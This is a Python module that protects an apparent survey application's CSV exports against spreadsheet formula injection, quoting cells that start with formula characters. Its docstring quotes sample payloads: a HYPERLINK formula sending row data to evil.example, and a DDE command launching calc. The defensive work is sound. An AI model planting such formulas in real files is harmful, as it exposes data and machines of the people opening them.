"""Cells of every CSV file the application writes, made safe to open in a spreadsheet.

A CSV cell is data, but Excel, LibreOffice and Google Sheets read a cell that starts
with ``=``, ``+``, ``-`` or ``@`` as a formula, and a tab or carriage return in front
does not stop them.  An open answer, a respondent id or any other text a person typed
can then run ``=HYPERLINK("http://evil.example/?"&A2, "点击查看")`` (sending the row to
someone else), or ``=cmd|' /C calc'!A0`` (DDE, on old Excel) on the computer of the
bureau officer who opens the export (CSV injection, CWE-1236).

OWASP's rule, applied here to every cell of every CSV we write (responses exports, the
dashboard's indices table, invitation codes): a text cell that starts with one of those
six characters gets a single quote in front (``=1+2`` becomes ``'=1+2``), which a
spreadsheet shows as text.  Numbers written as numbers (``int``, ``float``,
``Decimal``, numpy scalars) are left alone, so ``-3`` or ``-0.5`` stay numbers; a
*text* that starts with ``-`` ("-很好", or "-3" as a string) is quoted like any other.

The quote is part of the file: :func:`restore_cell` takes it off again, exactly where
:func:`safe_cell` put it, for the programs that read our exports back
(``surveyapp responses import``), so an export imports as the answers it was made from.
"""

from __future__ import annotations

import csv
import numbers
import re
from collections.abc import Iterable
from typing import Any, Protocol

__all__ = ["FORMULA_STARTS", "restore_cell", "safe_cell", "writer"]

#: The first characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet takes for a formula.

    ``None`` and numbers are returned as they are (the csv module writes them); any
    other value becomes its text, with ``'`` in front when it starts with one of
    :data:`FORMULA_STARTS`.
    """
    if value is None or (isinstance(value, numbers.Number) and not isinstance(value, str)):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def restore_cell(text: str) -> str:
    """The text :func:`safe_cell` was given, from the cell it made: the quote comes off
    only when a formula character follows it (``'=1`` → ``=1``; ``'abc`` stays)."""
    if text.startswith("'") and text[1:2] != "" and text[1:2] in FORMULA_STARTS:
        return text[1:]
    return text


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


#: A formula character at the start of a cell of a row joined with NUL before each cell.
_ROW_HAS_FORMULA = re.compile(r"\x00[=+\-@\t\r]")


class SafeWriter:
    """:func:`csv.writer` with every cell passed through :func:`safe_cell`.

    A row of texts is first checked whole (one join, one regex scan: about a tenth of
    the cost of a call per cell, which doubled the time of a million-row export); only
    a row with a cell to quote, or with cells that are not text, is done cell by cell.
    """

    def __init__(self, out: _Writable, **fmtparams: Any) -> None:
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        cells = row if isinstance(row, list | tuple) else list(row)
        try:
            joined = "\x00" + "\x00".join(cells)
        except TypeError:  # a number or None among the cells
            joined = "\x00="
        if _ROW_HAS_FORMULA.search(joined) is not None:
            cells = [safe_cell(v) for v in cells]
        return self._writer.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, **fmtparams: Any) -> SafeWriter:
    """Use instead of :func:`csv.writer` for any CSV the application writes: same
    arguments, same ``writerow``/``writerows``, cells made safe by :func:`safe_cell`."""
    return SafeWriter(out, **fmtparams)
